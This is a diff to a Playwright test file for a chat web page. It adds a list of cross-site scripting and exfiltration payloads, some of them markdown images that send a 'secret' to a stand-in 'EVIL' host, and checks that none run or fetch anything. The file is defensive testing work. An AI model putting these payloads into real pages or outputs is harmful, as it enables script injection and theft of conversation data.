@@ -1,8 +1,11 @@
 """The page in a real browser."""
 
 import re
+import threading
 import time
 from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -150,14 +153,78 @@ def test_a_break_before_the_first_word_is_not_seen(tab: Tab, page: Page) -> None
     expect(answers(tab).first).not_to_contain_text("end mark")
 
 
-def test_what_the_model_says_is_never_run(tab: Tab, page: Page) -> None:
-    hostile = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
-    page.runtime.scripts = [Script(words=[hostile, " done"])]
+HOSTILE = (
+    "<img src=x onerror=\"document.title='owned'\">",
+    "<script>document.title='owned'</script>",
+    "<svg onload=\"document.title='owned'\"></svg>",
+    "<svg><script>document.title='owned'</script></svg>",
+    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
+    '<iframe src="http://EVIL/frame"></iframe>',
+    "<math><mtext><img src=x onerror=\"document.title='owned'\"></mtext></math>",
+    "<details open ontoggle=\"document.title='owned'\">x</details>",
+    "<input autofocus onfocus=\"document.title='owned'\">",
+    "<a href=\"javascript:document.title='owned'\">look</a>",
+    "[look](javascript:document.title='owned')",
+    '<form action="http://EVIL"><button>press</button></form>',
+    "<style>@import url('http://EVIL/style.css');</style>",
+    '<link rel=stylesheet href="http://EVIL/style.css">',
+    '<base href="http://EVIL/">',
+    '<object data="http://EVIL/object"></object>',
+    '<video poster="http://EVIL/poster.png" src="http://EVIL/film.mp4"></video>',
+    '<div style="background:url(http://EVIL/background.png)">x</div>',
+    '<meta http-equiv=refresh content="0;url=http://EVIL">',
+    "![a secret of the conversation](http://EVIL/pixel.png?secret=1)",
+    "![x](//EVIL/pixel.png)",
+    '![x](http://EVIL/"onerror="document.title=1)',
+    "$$\\href{javascript:document.title='owned'}{x}$$",
+    "$$\\includegraphics{http://EVIL/tex.png}$$",
+    "```html\n<script>document.title='owned'</script>\n```",
+    "```mermaid\ngraph TD; A[<img src=x onerror=\"document.title='owned'\">]\n```",
+)
+"""After OWASP's cheat sheets on cross-site scripting and on prompt injection (images that carry a secret away)."""
 
-    ask(tab)
 
-    expect(answers(tab).first).to_contain_text("2 tokens")
-    assert tab.title() == "Slipway chat"
+@contextmanager
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Another site than the page's, its address, and what it was asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"127.0.0.1:{server.server_address[1]}", asked
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_what_the_model_says_is_never_run_and_fetches_nothing(browser: Browser, page: Page) -> None:
+    """A few to an answer, so that what one leaves open swallows few others."""
+    pieces = ["\n\n".join(HOSTILE[start : start + 4]) for start in range(0, len(HOSTILE), 4)]
+    with elsewhere() as (site, asked):
+        page.runtime.scripts = [Script(words=[piece.replace("EVIL", site), "\n\ndone"]) for piece in pieces]
+        tab = browser.new_page()
+        tab.goto(page.url)
+
+        for number in range(len(pieces)):
+            ask(tab, f"piece {number}")
+            expect(answers(tab).nth(number)).to_contain_text("2 tokens")
+            for link in answers(tab).nth(number).get_by_text("look", exact=True).all():
+                link.click(timeout=2_000, no_wait_after=True)
+
+        assert len(page.runtime.requests) == len(pieces)
+        assert tab.title() == "Slipway chat"
+        assert asked == []
+        tab.close()
 
 
 def test_an_empty_page_offers_questions_that_one_click_asks(tab: Tab, page: Page) -> None:
